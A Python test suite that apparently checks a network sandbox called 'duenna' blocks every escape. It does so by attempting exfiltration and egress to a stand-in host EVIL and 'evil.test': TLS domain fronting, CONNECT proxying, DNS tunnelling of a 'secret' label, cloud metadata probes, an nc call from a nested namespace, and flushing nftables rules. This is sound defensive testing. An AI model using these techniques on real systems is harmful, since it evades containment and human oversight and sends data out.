# SPDX-License-Identifier: Apache-2.0
"""The network: nothing but what duenna judges, and none of this is allowed."""
import socket
import ssl
import struct

from tries import EVIL, attempt, first, foreign, nested, spoken, tcp


def tls(host, port, name, request):
    """What comes back over TLS with any server name at all, or with none."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with socket.create_connection((host, port), 3) as s, \
            context.wrap_socket(s, server_hostname=name) as t:
        t.sendall(request)
        return foreign(t.recv(4096))


@attempt
def attacker_by_address():
    return first(*[lambda p=p: tcp(EVIL, p) for p in (80, 443, 22, 8080, 853)])


@attempt
def attacker_over_ipv6():
    return first(lambda: tcp('::ffff:' + EVIL, 80),
                 lambda: tcp('2001:db8::66', 80))


@attempt
def attacker_in_the_first_packet():
    """Data in the SYN; and a protocol that TCP falls back from."""
    def fast():
        with socket.socket() as s:
            s.sendto(b'GET / HTTP/1.0\r\n\r\n', 0x20000000, (EVIL, 80))
            s.settimeout(3)
            return foreign(s.recv(4096))
    return first(fast, lambda: spoken(socket.socket(2, 1, 262), (EVIL, 80)))


@attempt
def attacker_by_source_route():
    s = socket.socket()
    s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS,
                 bytes([131, 7, 4]) + socket.inet_aton(EVIL) + b'\0')
    return spoken(s, ('127.0.0.1', 80))


@attempt
def attacker_by_tls():
    """DNS over HTTPS and over TLS too, by address."""
    ask = b'GET /dns-query HTTP/1.1\r\nHost: evil.test\r\n\r\n'
    return first(*[lambda p=p, n=n: tls(EVIL, p, n, ask) for p in (443, 853)
                   for n in (None, EVIL, 'evil.test', 'api.test')])


@attempt
def attacker_behind_an_allowed_name():
    at = socket.gethostbyname('api.test')
    return first(*[lambda a=a: tls(at, 443, *a) for a in (
        ('api.test', b'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'),
        ('evil.test', b'GET / HTTP/1.1\r\nHost: api.test\r\n\r\n'),
        ('api.test', b'GET https://evil.test/ HTTP/1.1\r\n'
         b'Host: api.test\r\n\r\n'),
        ('api.test', b'CONNECT evil.test:443 HTTP/1.1\r\n'
         b'Host: evil.test:443\r\n\r\n'))])


@attempt
def attacker_by_connect():
    def asked(port):
        with socket.create_connection((EVIL, port), 3) as s:
            s.sendall(b'CONNECT evil.test:443 HTTP/1.1\r\n'
                      b'Host: evil.test:443\r\n\r\n')
            return foreign(s.recv(4096))
    return first(*[lambda p=p: asked(p) for p in (80, 8080, 3128, 1080)])


@attempt
def data_in_names():
    """Nobody outside is asked: no answer holds an address of the host's."""
    def asked(server, kind, over):
        labels = b'c2VjcmV0', b'evil', b'test', b''
        data = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + b''.join(
            bytes([len(p)]) + p for p in labels) + struct.pack('>2H', kind, 1)
        if over == socket.SOCK_STREAM:
            data = struct.pack('>H', len(data)) + data
        with socket.socket(socket.AF_INET, over) as s:
            s.settimeout(2)
            s.connect((server, 53))
            s.sendall(data)
            return socket.inet_aton(EVIL)[:3] in s.recv(4096)
    return first(*[lambda s=s, k=k, o=o: asked(s, k, o)
                   for s in ('198.18.0.1', '8.8.8.8', EVIL)
                   for k in (1, 16, 28, 65, 255) for o in (1, 2)])


@attempt
def services_of_the_host():
    """In the bed the host listens at each of these."""
    return first(*[lambda a=a: tcp(a, 80) for a in (
        '127.0.0.1', '127.0.0.53', '::1', '::ffff:127.0.0.1', '0.0.0.0',
        '::', '169.254.169.254', '10.0.0.1', 'fe80::1%lo', '64:ff9b::7f00:1')])


@attempt
def listeners_of_duenna():
    with open('/proc/net/tcp', encoding='ascii') as f:
        ports = {int(row.split()[1].split(':')[1], 16)
                 for row in list(f)[1:] if row.split()[3] == '0A'}
    return first(*[lambda a=a, p=p: tcp(a, p) for p in ports
                   for a in ('127.0.0.1', '::1', '198.18.0.1')])


@attempt
def datagrams():
    """QUIC, DNS over QUIC, the time, the names and devices of a local net."""
    def heard(host, port):
        with socket.socket(10 if ':' in host else 2, 2) as s:
            s.settimeout(0.5)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            s.connect((host, port))
            s.send(b'out')
            return s.recv(100)
    return first(*[lambda a=a: heard(*a) for a in (
        (EVIL, 443), (EVIL, 853), (EVIL, 123), ('::ffff:' + EVIL, 443),
        ('127.0.0.1', 443), ('::1', 443), ('224.0.0.251', 5353),
        ('255.255.255.255', 9), ('fe80::1%lo', 5353))])


@attempt
def a_link_below():
    """All that a namespace below can make leads nowhere."""
    return nested('ip link set lo up; ip link add d0 type dummy; ip addr add '
                  '203.0.113.9/24 dev d0; ip link set d0 up; ip route add '
                  'default via 203.0.113.1; timeout 2 sh -c "printf '
                  '\'GET / HTTP/1.0\\r\\n\\r\\n\' | nc -w1 %s 80"' % EVIL,
                  '-Urn')


@attempt
def rules_of_the_namespace():
    return nested('nft flush ruleset && echo flushed', '-Ur')
